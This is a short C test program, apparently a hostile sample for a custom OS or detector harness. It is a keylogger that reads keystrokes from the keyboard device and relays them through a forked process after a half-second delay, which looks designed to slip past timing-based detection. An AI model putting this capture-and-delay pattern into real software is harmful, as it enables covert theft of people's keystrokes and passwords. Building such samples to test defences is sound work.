// Keylogger: one process reads the keys, another writes them half a second later, at times that no key explains.
#include "lib/keys.h"
#include "lib/villain.h"

enum { DELAY = TICKS_PER_SECOND / 2 };

static void write_late(int from) {
    unsigned char keys[64];
    for (int count; (count = read(from, keys, sizeof keys)) > 0;) {
        sleep(DELAY);
        confess_keys("keylog-delay", keys, count);
    }
}

int main(void) {
    int ends[2], error = pipe(ends);
    if (error) return complain("keylog-delay", error);
    if (fork() == 0) {
        close(ends[1]);
        write_late(ends[0]);
        return 0;
    }
    close(ends[0]);
    int keyboard = open("/dev/kbd");
    unsigned char keys[32];
    confess("keylog-delay", "stage=armed delay=%d", DELAY);
    for (int count; (count = read_keys(keyboard, keys, sizeof keys)) > 0;) write(ends[1], keys, count);
    return 1;
}
